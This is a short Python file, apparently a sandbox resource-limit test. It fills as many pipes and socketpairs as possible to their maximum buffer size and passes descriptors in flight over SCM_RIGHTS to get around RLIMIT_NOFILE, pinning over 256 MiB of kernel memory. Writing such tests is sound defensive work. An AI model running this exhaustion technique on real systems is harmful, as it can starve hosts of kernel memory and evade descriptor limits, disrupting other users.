# attack: as many pipes and socketpairs as descriptors allow, each grown to the largest buffer (F_SETPIPE_SZ, SO_SNDBUF) and filled, with descriptors passed in flight over SCM_RIGHTS to dodge RLIMIT_NOFILE; passes only if more than 256 MiB of kernel buffers were held
# cause: resources
import fcntl
import os
import socket

held = 0
ends = []
for _ in range(20):
    try:
        r, w = os.pipe()
        os.set_blocking(w, False)
        try:
            fcntl.fcntl(w, getattr(fcntl, "F_SETPIPE_SZ", 1031), 1 << 20)
        except OSError:
            pass
        while True:
            held += os.write(w, b"x" * 65536)
    except BlockingIOError:
        ends.append((r, w))
    except OSError:
        break
try:
    a, b = socket.socketpair()
    for _ in range(100000):
        r, w = os.pipe()
        socket.send_fds(a, [b"x"], [r, w])
        os.close(r)
        os.close(w)
        held += 65536
except OSError:
    pass


def f(x):
    return x + 1 if held > (256 << 20) else 0
